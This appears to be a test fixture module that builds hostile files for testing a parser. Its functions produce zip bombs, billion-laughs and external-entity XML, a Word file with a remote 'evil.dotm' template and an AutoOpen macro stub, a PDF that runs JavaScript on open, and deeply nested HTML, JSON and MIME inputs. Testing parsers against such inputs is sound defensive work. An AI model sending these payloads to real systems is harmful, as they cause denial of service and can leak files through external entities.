"""Malicious files, made by the tests: each says how it attacks a reader."""

import io
import zipfile
import zlib

import docx
from docx.opc.constants import RELATIONSHIP_TYPE

from tests.articles.make_files import saved

NAMESPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
ENTITIES = "<!DOCTYPE lolz [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)
) + "]>"  # fmt: skip


def word_file(words: str = "The port handled 4,200 containers.") -> bytes:
    """An honest Word file."""
    document = docx.Document()
    document.add_paragraph(words)
    return saved(document)


def replaced(content: bytes, **parts: bytes) -> bytes:
    """An archive with some parts replaced or added; a double underscore stands for the slash."""
    into = io.BytesIO()
    new = {name.replace("__", "/").replace("_DOT_", "."): data for name, data in parts.items()}
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as made,
    ):
        for entry in old.infolist():
            if entry.filename not in new:
                made.writestr(entry.filename, old.read(entry))
        for name, data in new.items():
            made.writestr(name, data)
    return into.getvalue()


def zip_bomb() -> bytes:
    """Half a gigabyte of one letter as the text of a Word file."""
    body = f"<w:document {NAMESPACE}><w:body><w:p><w:r><w:t>".encode()
    end = b"</w:t></w:r></w:p></w:body></w:document>"
    return replaced(word_file(), word__document_DOT_xml=body + b"a" * 500_000_000 + end)


def lying_zip_bomb() -> bytes:
    """The same, smaller, whose directory says that it is a hundred bytes long."""
    bomb = bytearray(replaced(word_file(), word__document_DOT_xml=b"a" * 150_000_000))
    size = (150_000_000).to_bytes(4, "little")
    while (place := bomb.find(size)) >= 0:
        bomb[place : place + 4] = (100).to_bytes(4, "little")
    return bytes(bomb)


def nested_zip() -> bytes:
    """Archives in archives, each full of archives, inside a Word file."""
    inner = zlib.compress(b"")
    for _level in range(6):
        into = io.BytesIO()
        with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(10):
                archive.writestr(f"{number}.zip", inner)
        inner = into.getvalue()
    return replaced(word_file(), word__embeddings__more_DOT_zip=inner)


def heavy_word_file() -> bytes:
    """Within the limit of an archive, but of so many small parts that its tree fills the memory."""
    body = f"<w:document {NAMESPACE}><w:body>".encode()
    body += b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 2_500_000
    return replaced(word_file(), word__document_DOT_xml=body + b"</w:body></w:document>")


def entities_in_word() -> bytes:
    """A thousand million laughs in a Word file."""
    body = f"<?xml version='1.0'?>{ENTITIES}<w:document {NAMESPACE}><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>"
    return replaced(word_file(), word__document_DOT_xml=body.encode())


def external_entity_in_word(address: str) -> bytes:
    """A Word file that wants to be completed from elsewhere."""
    body = (
        f"<?xml version='1.0'?><!DOCTYPE d [<!ENTITY x SYSTEM '{address}'>]>"
        f"<w:document {NAMESPACE}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    )
    return replaced(word_file(), word__document_DOT_xml=body.encode())


def entities_in_news(address: str = "") -> bytes:
    """The same in NewsML-G2."""
    declared = f"<!DOCTYPE d [<!ENTITY a9 SYSTEM '{address}'>]>" if address else ENTITIES
    return (
        f"<?xml version='1.0'?>{declared}<newsItem xmlns='http://iptc.org/std/nar/2006-10-01/'><contentSet><inlineData>"
        "&a9;</inlineData></contentSet></newsItem>"
    ).encode()


def remote_template_and_macros(address: str) -> bytes:
    """A Word file whose template and picture lie on another host, with macros."""
    document = docx.Document()
    document.add_paragraph("The port handled 4,200 containers.")
    document.part._settings_part.relate_to(
        address + "/evil.dotm", RELATIONSHIP_TYPE.IMAGE.replace("image", "attachedTemplate"), is_external=True
    )
    document.part.relate_to(address + "/picture.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)
    return replaced(saved(document), word__vbaProject_DOT_bin=b"\xd0\xcf\x11\xe0Sub AutoOpen()")


def pdf(objects: list[str], extra: str = "") -> bytes:
    """A PDF of these objects; the first is the catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{content}\nendobj\n".encode("latin-1")
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    return (
        out + f"trailer\n<</Size {len(objects) + 1}/Root 1 0 R{extra}>>\nstartxref\n{start}\n%%EOF".encode()
    )


def pdf_of_pages(count: int, words: str = "The port handled 4,200 containers in March 2026.") -> bytes:
    """A PDF with so many pages, all with the same words."""
    stream = f"BT /F1 12 Tf 72 700 Td ({words}) Tj ET"
    kids = " ".join(f"{number} 0 R" for number in range(5, 5 + count))
    pages = [
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R/Resources<</Font<</F1 4 0 R>>>>>>"
    ] * count
    return pdf([
        "<</Type/Catalog/Pages 2 0 R>>", f"<</Type/Pages/Kids[{kids}]/Count {count}>>",
        f"<</Length {len(stream)}>>\nstream\n{stream}\nendstream", "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", *pages,
    ])  # fmt: skip


def pdf_with_script() -> bytes:
    """A PDF that runs JavaScript when it is opened."""
    made = pdf_of_pages(1).decode("latin-1")
    action = "<</Names[(go) <</S/JavaScript/JS(app.launchURL('http://127.0.0.1/'))>>]>>"
    catalogue = f"<</Type/Catalog/Pages 2 0 R/Names<</JavaScript {action}>>/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
    objects = [
        made.split(f"\n{n} 0 obj\n")[1].split("\nendobj")[0] if n > 1 else catalogue for n in range(1, 6)
    ]
    return pdf(objects)


def pdf_of_a_scan() -> bytes:
    """A page that is a picture."""
    image = "<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/Length 1>>\nstream\n \nendstream"
    draw = "q 500 0 0 700 50 50 cm /I Do Q"
    return pdf([
        "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[4 0 R]/Count 1>>", image,
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 5 0 R/Resources<</XObject<</I 3 0 R>>>>>>",
        f"<</Length {len(draw)}>>\nstream\n{draw}\nendstream",
    ])  # fmt: skip


def long_line() -> bytes:
    """A web page of 50 MB in one line, with scripts."""
    return (
        b"<html><body><script>while(1){}</script><p>"
        + b"The port handled 4,200 containers. " * 1_450_000
        + b"</p></body></html>"
    )


def deep_page() -> bytes:
    """A web page whose elements stand in one another 200,000 deep."""
    return b"<html><body>" + b"<div><p>" * 200_000 + b"The port handled 4,200 containers in March. " * 20


def deep_json() -> bytes:
    """News whose lists stand in one another."""
    return b'{"headline": "x", "bodies": ' + b"[" * 500_000


def deep_mail() -> bytes:
    """A message of parts in parts."""
    parts = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(5000))
    return (
        b"From: a@b.c\nSubject: x\nDate: Fri, 03 Apr 2026 10:00:00 +0200\nMIME-Version: 1.0\n"
        + parts.encode()
    )
